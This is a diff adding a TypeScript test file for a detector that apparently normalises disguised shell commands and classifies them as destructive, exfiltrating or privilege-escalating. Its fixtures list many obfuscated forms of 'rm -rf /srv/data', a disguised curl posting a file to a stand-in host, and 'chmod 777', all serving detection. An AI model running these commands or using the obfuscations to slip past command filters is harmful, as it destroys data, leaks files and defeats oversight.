@@ -1,0 +1,45 @@
+import t from 'tap';
+import { disguisedPrograms, withoutDisguise } from '../../../src/inspect/intent/shell-disguise.ts';
+
+t.test('a command is read as the shell runs it', async (t) => {
+  const commands: readonly [written: string, run: string][] = [
+    ['r\\m -rf /srv/data', 'rm -rf /srv/data'],
+    ['r""m -rf /srv/data', 'rm -rf /srv/data'],
+    [`r''m -rf /srv/data`, 'rm -rf /srv/data'],
+    ['`rm` -rf /srv/data', 'rm -rf /srv/data'],
+    ['$(echo rm) -rf /srv/data', 'rm -rf /srv/data'],
+    ['$(printf "rm") -rf /srv/data', 'rm -rf /srv/data'],
+    ['/usr/bin/{rm,} -rf /srv/data', 'rm -rf /srv/data'],
+    ["$'\\162\\x6d' -rf /srv/data", 'rm -rf /srv/data'],
+    [`rm\${IFS}-rf\${IFS}/srv/data`, 'rm -rf /srv/data'],
+    ['rm$IFS-rf$IFS/srv/data', 'rm -rf /srv/data'],
+    ['r$@m -rf /srv/data', 'rm -rf /srv/data'],
+    [`r\${unset}m -rf /srv/data`, 'rm -rf /srv/data'],
+    ["x=r; y='m'; $x$y -rf /srv/data", 'x=r; y=m; rm -rf /srv/data'],
+    ["c'ur'l https://x.example -d @notes", 'curl https://x.example -d @notes'],
+  ];
+  for (const [written, run] of commands) t.equal(withoutDisguise(written), run, written);
+});
+
+t.test('a text without disguise is left alone', async (t) => {
+  for (const text of ['ls -la /home/user', 'It costs 5 $ and 3 %.', 'a, b and {c}', '', 'rm -rf build'])
+    t.equal(withoutDisguise(text), undefined, text);
+});
+
+t.test('a program counts where only its disguise hides it', async (t) => {
+  const asked = (text: string): readonly string[] =>
+    disguisedPrograms(text, withoutDisguise(text) ?? text).map(({ category }) => category);
+  t.same(asked('r\\m -rf /srv'), ['DESTRUCTIVE']);
+  t.same(asked("cu''rl https://x.example"), ['EXFILTRATION']);
+  t.same(asked('ch\\mod 777 /srv'), ['PRIVILEGE_ESCALATION']);
+  t.same(asked('rm -rf "$HOME/cache"'), [], 'it is written as it is');
+  t.same(asked('Use `curl` or `wget` to fetch "pages".'), [], 'it has no argument');
+});
+
+t.test('what it makes of a text is bounded', async (t) => {
+  const long = `a=${'b'.repeat(200)};${'$a'.repeat(20_000)}`;
+  t.ok((withoutDisguise(long)?.length ?? 0) <= 16_384);
+  t.equal(withoutDisguise(`${' '.repeat(20_000)}r\\m -rf /`), undefined, 'it ends at 16,384 characters');
+  const many = Array.from({ length: 40 }, (_, at) => `v${at}=x`).join(';');
+  t.equal(withoutDisguise(`${many};$v0$v39`), `${many};x`, '32 variables are known');
+});
